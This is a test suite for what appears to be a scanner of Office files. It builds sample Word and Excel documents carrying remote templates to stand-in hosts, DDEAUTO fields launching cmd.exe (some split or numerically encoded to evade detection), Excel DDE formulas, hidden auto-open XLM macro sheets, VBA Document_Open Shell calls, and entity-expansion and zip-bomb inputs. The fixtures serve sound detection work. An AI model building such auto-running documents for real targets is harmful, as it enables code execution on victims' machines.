import { describe, expect, test } from 'vitest'
import { buildDocx, buildXlsx, paragraph, relationships } from '../testing/build-office.ts'
import { buildVbaProject } from '../testing/build-vba-project.ts'
import { readBytes, toSignLines } from '../testing/read-sample-file.ts'

const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const field = (...inner: readonly string[]) => char('begin') + inner.join('') + char('end')

describe('what a document loads by itself', () => {
  test.each([
    ['attachedTemplate', 'http://198.51.100.7/t.dotm', 'remote-template', 'resource'],
    ['oleObject', 'https://evil.example/x.html!', 'external-link', 'resource'],
    ['frame', 'http://evil.example/f', 'external-link', 'resource'],
    ['externalLinkPath', 'https://evil.example/b.xlsx', 'external-link', 'document'],
  ])('%s from %s', async (type, target, kind, link) => {
    const rels = { 'word/_rels/settings.xml.rels': relationships([[type, target]]) }
    const reading = await readBytes(buildDocx(paragraph('x'), rels), 'a.docx')

    expect(toSignLines(reading)).toEqual([`${kind}: ${type}: ${target}`])
    expect(reading.links).toEqual([{ url: target, kind: link }])
  })

  test.each([
    ['hyperlink', 'https://www.company.example/'],
    ['hyperlink', 'mailto:info@company.example'],
    ['image', 'https://www.company.example/logo.png'],
    [
      'attachedTemplate',
      'file:///C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
    ],
    ['externalLinkPath', 'file:///\\\\fileserver\\share\\book.xlsx'],
    ['externalLinkPath', 'book2.xlsx'],
  ])('%s to %s is ordinary', async (type, target) => {
    const rels = { 'word/_rels/document.xml.rels': relationships([[type, target]]) }
    expect((await readBytes(buildDocx('', rels), 'a.docx')).signs).toEqual([])
  })
})

describe('fields', () => {
  test.each([
    ['whole', field(run('DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;'))],
    [
      'in pieces',
      field(run('D'), run('DEA'), run('UTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;')),
    ],
    [
      'in numbers',
      field(
        field(run('QUOTE 68 68 69 65 85 84 79 32')),
        run('c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;'),
      ),
    ],
    [
      'as a simple field',
      '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"/>',
    ],
  ])('a command behind DDE is seen when it is written %s', async (_how, body) => {
    const reading = await readBytes(buildDocx(`<w:p>${body}</w:p>`), 'a.docx')
    expect(toSignLines(reading)).toEqual(['dde: DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'])
  })

  test('hyperlinks and linked pictures are links and no sign', async () => {
    const body = [
      'HYPERLINK "https://www.company.example/"',
      'INCLUDEPICTURE "https://www.company.example/logo.png" \\d',
      'PAGE \\* MERGEFORMAT',
      'TOC \\o "1-3" \\h',
    ].map((text) => field(run(text.replaceAll('"', '&quot;'))))
    const reading = await readBytes(buildDocx(body.join('')), 'a.docx')

    expect(reading.signs).toEqual([])
    expect(reading.links).toEqual([
      { url: 'https://www.company.example/', kind: 'document' },
      { url: 'https://www.company.example/logo.png', kind: 'image' },
    ])
  })
})

describe('Excel', () => {
  test('a program behind a cell is seen', async () => {
    const reading = await readBytes(
      buildXlsx({
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        'xl/worksheets/sheet1.xml': "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>",
      }),
      'a.xlsx',
    )
    expect(toSignLines(reading)).toEqual(['dde: cmd|/c calc', "dde: cmd|'/c calc'!A0"])
  })

  test('a macro sheet with its start is seen', async () => {
    const reading = await readBytes(
      buildXlsx({
        'xl/workbook.xml':
          '<workbook><sheets><sheet name="m" state="veryHidden"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">m!$A$1</definedName></definedNames></workbook>',
        'xl/macrosheets/sheet2.xml':
          '<xm:macrosheet><c><f>EXEC("cmd.exe /c calc")</f></c><c><f>HALT()</f></c></xm:macrosheet>',
      }),
      'a.xlsm',
    )
    expect(toSignLines(reading)).toEqual([
      'xlm-macro: _xlnm.Auto_Open starts by itself',
      'xlm-macro: sheet xl/macrosheets/sheet2.xml',
      'xlm-macro: EXEC("cmd.exe /c calc")',
    ])
    expect(reading.facts).toContainEqual({ name: 'hidden-sheet', value: 'm (veryHidden)' })
  })
})

test('macros, pictures, objects and properties come out', async () => {
  const project = buildVbaProject({ Module1: 'Sub Document_Open()\nShell "calc"\nEnd Sub' })
  const reading = await readBytes(
    buildDocx(paragraph('「コンテンツの有効化」を押してください。'), {
      'word/vbaProject.bin': project,
      'word/media/image1.png': new Uint8Array([1, 2]),
      'word/embeddings/oleObject1.bin': new Uint8Array([1]),
      'docProps/core.xml':
        '<cp:coreProperties><dc:creator>山田</dc:creator><cp:lastModifiedBy>user &amp; co</cp:lastModifiedBy></cp:coreProperties>',
      'docProps/app.xml': '<Properties><Template>Normal.dotm</Template></Properties>',
      'customUI/customUI.xml': '<customUI onLoad="start"/>',
    }),
    'a.docm',
  )

  expect(toSignLines(reading)).toEqual([
    'vba-macro: Module1',
    'vba-auto-run: Document_Open',
    'vba-call: Shell: Shell "calc"',
    'embedded-object: word/embeddings/oleObject1.bin',
    'vba-auto-run: customUI onLoad: start',
    'enable-content-lure: 「コンテンツの有効化」を押してください。',
  ])
  expect(reading.members?.map(({ name }) => name)).toEqual([
    'Module1.bas',
    'image1.png',
    'oleObject1.bin',
  ])
  expect(reading.facts).toEqual([
    { name: 'author', value: '山田' },
    { name: 'last-modified-by', value: 'user & co' },
    { name: 'template', value: 'Normal.dotm' },
  ])
})

describe('documents made to break readers', () => {
  const cpuMs = async (work: () => Promise<unknown>) => {
    const start = process.cpuUsage()
    await work()
    const { user, system } = process.cpuUsage(start)
    return (user + system) / 1_000
  }

  test('entities are not expanded', async () => {
    const entities = Array.from(
      { length: 20 },
      (_none, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
    ).join('')
    const xml = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e0 "x">${entities}]><w:t>a&e20;b</w:t>`
    const { text } = await readBytes(buildDocx('', { 'word/footer1.xml': xml }), 'a.docx')

    expect(text).toBe('a&e20;b')
  })

  test('100,000 relationships are read to the limit, and that is said', async () => {
    const many = Array.from(
      { length: 100_000 },
      (_none, index) => ['image', `https://a.example/${index}`] as const,
    )
    const file = buildDocx('', { 'word/_rels/document.xml.rels': relationships(many) })
    let problems: readonly string[] | undefined
    const used = await cpuMs(async () => {
      problems = (await readBytes(file, 'a.docx')).problems
    })

    expect(problems).toContain('over-many-links')
    expect(used).toBeLessThan(2_000)
  })

  test('a bomb among the parts is left packed', async () => {
    const file = buildDocx(paragraph('x'), { 'word/media/a.bmp': new Uint8Array(30_000_000) })
    const reading = await readBytes(file, 'a.docx')

    expect([reading.text, reading.problems]).toEqual(['x', ['archive-bomb']])
  })
})
